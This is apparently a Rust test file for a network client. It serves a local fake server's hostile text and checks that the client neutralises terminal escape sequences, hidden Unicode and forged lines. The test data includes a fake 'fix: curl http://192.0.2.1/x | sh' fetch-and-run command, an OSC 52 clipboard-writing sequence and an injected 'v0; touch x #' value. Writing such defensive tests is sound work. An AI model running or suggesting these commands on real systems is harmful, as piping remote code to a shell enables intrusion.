//! A server that writes to the terminal of its clients: escape sequences, and lines that look like those
//! of the command.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::Command;
use std::thread;
use std::time::Duration;

use serde_json::{Value, json};

use super::without_libraries;
use crate::support::client::Client;
use crate::support::raw::{HEAD, framed};
use crate::support::run::{Ended, FARREACH};

/// Clears the screen, sets the clipboard, forges a fix, and turns text around.
const TEXT: &str = "\u{1b}[2J\u{1b}]52;c;Y3VybA==\u{7}\u{9b}1A\r\n  fix: curl http://192.0.2.1/x | sh\nfix: curl \u{202e}\u{200b}\u{2028}";

/// A refusal whose every text is hostile, and which claims success.
fn refusal() -> Value {
    json!({ "error": TEXT, "cause": TEXT, "fix": TEXT, "exit": "ok" })
}

fn welcome() -> Value {
    let offers = json!({ "cards": true, "providers": ["shm", TEXT] });
    json!({ "Ok": { "version": TEXT, "host": TEXT, "offers": offers, "connections_max": 8 } })
}

/// Serves these messages to whoever connects.
fn server(messages: Vec<Value>) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = listener.local_addr().expect("it listens");
    let serve = move |mut stream: TcpStream| {
        let sent = messages.iter().map(framed).fold(HEAD.to_vec(), |sent, message| [sent, message].concat());
        // The client may have closed the connection already.
        let _ = stream.write_all(&sent);
        let _ = stream.set_read_timeout(Some(Duration::from_secs(60)));
        while matches!(stream.read(&mut [0; 4096]), Ok(1..)) {}
    };
    // It ends with the test's process.
    thread::spawn(move || listener.incoming().flatten().for_each(serve));
    address
}

/// Asserts that nothing of what a server has sent is more than text, and part of a line of the command.
fn assert_harmless(ended: &Ended, told: &str) {
    for output in [&ended.stdout, &ended.stderr] {
        let is_hidden = |it: char| matches!(it, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}');
        let is_harmful = |it: char| it != '\n' && (it.is_control() || is_hidden(it));
        assert!(!output.chars().any(is_harmful), "{told}: {ended:#?}");
        let is_forged = |line: &str| line.trim_start().starts_with("fix:") && line.contains("curl");
        assert!(!output.lines().any(is_forged), "{told}: {ended:#?}");
    }
    assert_ne!(ended.code, Some(0), "{told}: {ended:#?}");
}

#[test]
fn a_text_of_a_server_is_shown_as_the_servers_and_does_nothing_to_the_terminal() {
    let answers = [
        ("a refusal", vec![json!({ "Err": refusal() })]),
        ("a message that is none", vec![json!({ TEXT: {} })]),
        ("a notice of refusal", vec![welcome(), json!({ "Refused": refusal() })]),
        ("a notice that is none", vec![welcome(), json!({ TEXT: 7 })]),
        ("an agent that cannot start", vec![welcome(), json!("Served"), json!({ "Err": refusal() })]),
        ("an agent that fails", vec![welcome(), json!("Served"), Value::Null, json!({ "Err": refusal() })]),
    ];
    let mut quoted = 0;
    for (what, answer) in answers {
        let address = server(answer).to_string();
        for command in ["ping", "fill", "blast", "bench", "chip", "doctor"] {
            for json in [false, true] {
                let mut client = Command::new(FARREACH);
                client.args([command, &address, "-v", "-d", "shm"]);
                client.args(json.then_some("--json"));
                client.env("LD_LIBRARY_PATH", without_libraries());
                let ended = Client::start(&mut client).end_within(Duration::from_secs(120));
                let told = format!("{what} to {command}, JSON: {json}");
                assert_harmless(&ended, &told);
                let lead = r#"their fix: "\u001b[2J\u001b]52;c;"#;
                quoted += u32::from(ended.stderr.contains(lead));
                if json && !ended.stdout.is_empty() {
                    let told = ended.json()["error"]["their_fix"].as_str().map(str::to_owned);
                    assert_eq!(told.is_some(), ended.stderr.contains(lead), "{ended:#?}");
                }
            }
        }
    }
    assert!(quoted >= 12, "the server's fix was quoted {quoted} times");
}

/// A peer's doctor sends a whole pack.
#[test]
fn a_pack_of_a_server_is_no_more_than_text_either() {
    let pack = include_str!("../../../doctor/tests/packs/soft-roce.json");
    let mut pack: Value = serde_json::from_str(pack).expect("it is JSON");
    pack["host"] = TEXT.into();
    pack["constructed"] = TEXT.into();
    for (path, text) in [
        ("/sys/class/infiniband/rxe0/parent", "v0; touch x #"),
        ("/sys/class/infiniband/rxe0/ports/1/state", TEXT),
        ("/sys/class/infiniband/rxe0/ports/1/rate", TEXT),
        ("/proc/self/limits", TEXT),
    ] {
        pack["files"][path] = text.into();
    }
    pack["probes"]["transfers"] = json!({ "read": { "tcp": { "failed": refusal() } } });
    let told = json!({ "Ok": { "rails": ["tcp", TEXT, "mlx5_0"], "pack": pack } });
    let address = server(vec![welcome(), json!("Served"), Value::Null, told]).to_string();
    let folder = tempfile::tempdir().expect("a folder");
    let dump = folder.path().join("pair.json");
    for json in [false, true] {
        let mut client = Command::new(FARREACH);
        client.args(["doctor", &address, "-v", "--dump"]).arg(&dump).args(json.then_some("--json"));
        client.env("LD_LIBRARY_PATH", without_libraries());
        let ended = Client::start(&mut client).end_within(Duration::from_secs(240));
        assert_harmless(&ended, "a pack");
        assert!(ended.stdout.contains("192.0.2.1"), "the pack was examined: {ended:#?}");
    }
    let dumped = std::fs::read_to_string(&dump).expect("it was written");
    assert!(!dumped.chars().any(|it| it != '\n' && it.is_control()) && !dumped.contains('\u{202e}'));
    // And once more on another host.
    let from = Client::start(Command::new(FARREACH).args(["doctor", "-v", "--from"]).arg(&dump));
    assert_harmless(&from.end_within(Duration::from_secs(60)), "a pack from a file");
}
